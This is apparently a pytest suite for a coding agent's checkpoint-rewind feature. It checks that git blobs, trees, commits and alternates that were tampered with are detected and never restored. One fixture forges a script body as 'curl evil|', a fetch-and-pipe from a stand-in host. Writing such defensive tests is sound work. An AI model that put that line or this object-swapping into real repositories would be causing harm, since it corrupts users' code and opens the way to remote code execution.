"""Whoever can write into the repository can overwrite its objects: what comes of it is never brought back."""

import hashlib
import zlib
from pathlib import Path

import pytest

from acp_tui.git import objects
from acp_tui.git.objects import CheckpointError
from acp_tui.rewind.checkpoint import LineCount
from acp_tui.rewind.store import read_turns
from acp_tui.ui.rewind.file_parts import read_diffs
from tests.unit.rewind.conftest import RETURN, TURN, Scene
from tests.unit.rewind.test_foreign_refs import make, tree_with


def swap(scene: Scene, id_: str, content: bytes, kind: str = "blob") -> None:
    """Write something else into a loose object; git reads it and says nothing."""
    path = scene.top / ".git/objects" / id_[:2] / id_[2:]
    path.chmod(0o600)
    path.write_bytes(zlib.compress(b"%s %d\0" % (kind.encode(), len(content)) + content))


def id_of(scene: Scene, text: bytes) -> str:
    told = b"blob %d\0" % len(text) + text
    kind = scene.git("rev-parse", "--show-object-format").strip()
    return hashlib.new(kind, told).hexdigest()


@pytest.fixture(params=["sha1", "sha256"])
def either(request: pytest.FixtureRequest, scene: Scene) -> Scene:
    """A repository with ids of either kind."""
    (scene.top / ".git").rename(scene.state.with_name("other.git"))
    scene.git("init", "-q", "-b", "main", f"--object-format={request.param}")
    return scene


def test_a_content_that_was_swapped_is_not_written(either: Scene) -> None:
    good = b"#!/bin/sh\nmake test\n"
    either.write("run.sh", good)
    either.write("other", "before\n")
    either.store.make_checkpoint(TURN)
    either.write("run.sh", "later\n")
    either.write("other", "later\n")
    swap(either, id_of(either, good), b"#!/bin/sh\ncurl evil|\n")
    outcome = either.back()
    assert either.files() == {"run.sh": b"later\n", "other": b"before\n"}
    [(name, why)] = outcome.skipped
    assert name == "run.sh"
    assert "isn't what was kept" in why
    assert "git fsck" in why


def test_no_diff_shows_a_content_that_was_swapped(scene: Scene) -> None:
    scene.write("a", "before\n")
    scene.write("b", "before too\n")
    scene.store.make_checkpoint(TURN)
    scene.write("a", "later\n")
    scene.write("b", "later\n")
    swap(scene, id_of(scene, b"before\n"), b"forged\n")
    [turn] = read_turns(scene.store)
    changed = read_diffs(scene.store, turn.changes)
    assert [one.counted for one in changed.changes] == [LineCount.DAMAGED, LineCount.EXACTLY]
    assert [*changed.diffs] == [b"b"]


@pytest.mark.parametrize("depth", [0, 1])
def test_a_tree_that_was_swapped_is_not_followed(scene: Scene, depth: int) -> None:
    """A tree leads to contents: they would be the agent's own, each as its id says."""
    scene.write("src/run.sh", "good\n")
    kept = scene.store.make_checkpoint(TURN)
    scene.write("src/run.sh", "later\n")
    evil = tree_with(scene, [*[b"src"][depth:], b"run.sh"], b"evil\n")
    ours = scene.git("rev-parse", kept.tree, f"{kept.tree}:src").split()
    other = bytes.fromhex(make(scene, "blob", b"evil\n"))
    content = b"100644 run.sh\0" + other
    if depth == 0:
        content = b"40000 src\0" + bytes.fromhex(scene.git("rev-parse", f"{evil}:src").strip())
    swap(scene, ours[depth], content, "tree")
    with pytest.raises(CheckpointError, match="isn't what was kept"):
        scene.back()
    assert scene.files() == {"src/run.sh": b"later\n"}


def test_rules_that_were_swapped_delete_nothing(scene: Scene) -> None:
    """What was ignored then is deleted by no return, whatever somebody says that was ignored."""
    scene.write(".gitignore", ".env\n")
    scene.write(".env", "secret\n")
    scene.store.make_checkpoint(TURN)
    scene.write(".gitignore", "")
    swap(scene, id_of(scene, b".env\n"), b"none\n")
    with pytest.raises(CheckpointError, match="isn't what was kept"):
        scene.back()
    assert scene.files()[".env"] == b"secret\n"


def test_a_commit_that_was_swapped_is_not_listed(scene: Scene) -> None:
    scene.write("a", "good\n")
    kept = scene.store.make_checkpoint(TURN)
    commit = scene.git("rev-parse", kept.ref).strip()
    content = scene.git("cat-file", "commit", commit).encode()
    evil = tree_with(scene, [b"a"], b"evil\n")
    swap(scene, commit, content.replace(kept.tree.encode(), evil.encode()), "commit")
    assert scene.store.list() == []


def test_what_could_not_be_taken_back_stays_as_it_is(scene: Scene) -> None:
    """An object that is wrong before its content is kept stays wrong: git writes none twice."""
    scene.write("a", "before\n")
    scene.write("new", "made\n")
    store = scene.store
    store.make_checkpoint(TURN)
    (scene.top / "new").unlink()
    store.make_checkpoint(TURN)
    now = b"of the person\n"
    swap(scene, make(scene, "blob", now), b"of the agent\n")
    scene.write("a", now)
    target = store.list()[1]
    outcome = store.restore(store.plan(target), RETURN)
    assert scene.files() == {"a": now, "new": b"made\n"}
    [(name, why)] = outcome.skipped
    assert name == "a"
    assert "nothing could take that back" in why


def test_what_claims_to_be_huge_is_not_read_into_memory(
    scene: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(objects, "LARGEST_OBJECT", 3_000_000)
    scene.write("a", "before\n")
    scene.write("b", "before too\n")
    scene.store.make_checkpoint(TURN)
    scene.write("a", "later\n")
    scene.write("b", "later\n")
    swap(scene, id_of(scene, b"before\n"), bytes(3_000_001))
    outcome = scene.back()
    assert [name for name, _ in outcome.skipped] == ["a"]
    assert scene.files()["b"] == b"before too\n"


def test_an_object_is_followed_nowhere(scene: Scene, tmp_path: Path) -> None:
    """Alternates and packs are others' places for objects: their contents are compared as well."""
    scene.write("a", "before\n")
    scene.store.make_checkpoint(TURN)
    scene.write("a", "later\n")
    id_ = id_of(scene, b"before\n")
    swap(scene, id_, b"forged\n")
    elsewhere = tmp_path / "objects" / id_[:2]
    elsewhere.mkdir(parents=True)
    (scene.top / ".git/objects" / id_[:2] / id_[2:]).rename(elsewhere / id_[2:])
    scene.write(".git/objects/info/alternates", f"{elsewhere.parent}\n")
    assert [name for name, _ in scene.back().skipped] == ["a"]
    assert scene.files() == {"a": b"later\n"}
